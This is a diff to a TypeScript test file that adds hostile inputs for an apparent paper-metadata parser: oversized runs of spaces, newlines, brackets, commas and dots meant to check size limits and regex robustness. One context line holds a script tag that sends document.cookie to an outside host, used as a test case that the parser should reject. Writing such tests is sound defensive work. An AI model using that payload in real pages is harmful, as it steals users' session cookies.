@@ -44,6 +44,16 @@ const HOSTILE: Record<string, [text: string, says: string]> = {
     paper([], Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join('a')),
     '1 paper, 0 topics: 1 warning.',
   ],
+  'as many spaces as fit': [
+    paper([`venue: "${' '.repeat(SIZE / 3)}x"`], `${' '.repeat(SIZE / 3)}x`),
+    'whole-abstract',
+  ],
+  'as many lines as fit': [paper([], `x${'\n'.repeat(SIZE)}* x`), '1 warning'],
+  'as many stars as fit': [paper([], `x${'*'.repeat(SIZE)}x`), 'whole-abstract'],
+  'an identifier of brackets': [paper([`arxiv: "${'['.repeat(SIZE)}"`]), 'quoted-identifier'],
+  'a name of commas': [paper([`authors: ["${', '.repeat(SIZE / 2)}x"]`]), 'authors-as-names'],
+  'an address of dots': [paper([`links: { code: "https://${'a.'.repeat(SIZE / 2)}" }`]), 'web-link'],
+  'a summary of capitals': [paper([`summary: "${'AB '.repeat(SIZE / 3)}"`]), 'at most 200 characters'],
   'a script': [
     paper([], '<script>fetch("https://example.org/" + document.cookie)</script>'),
     'Unexpected HTML',
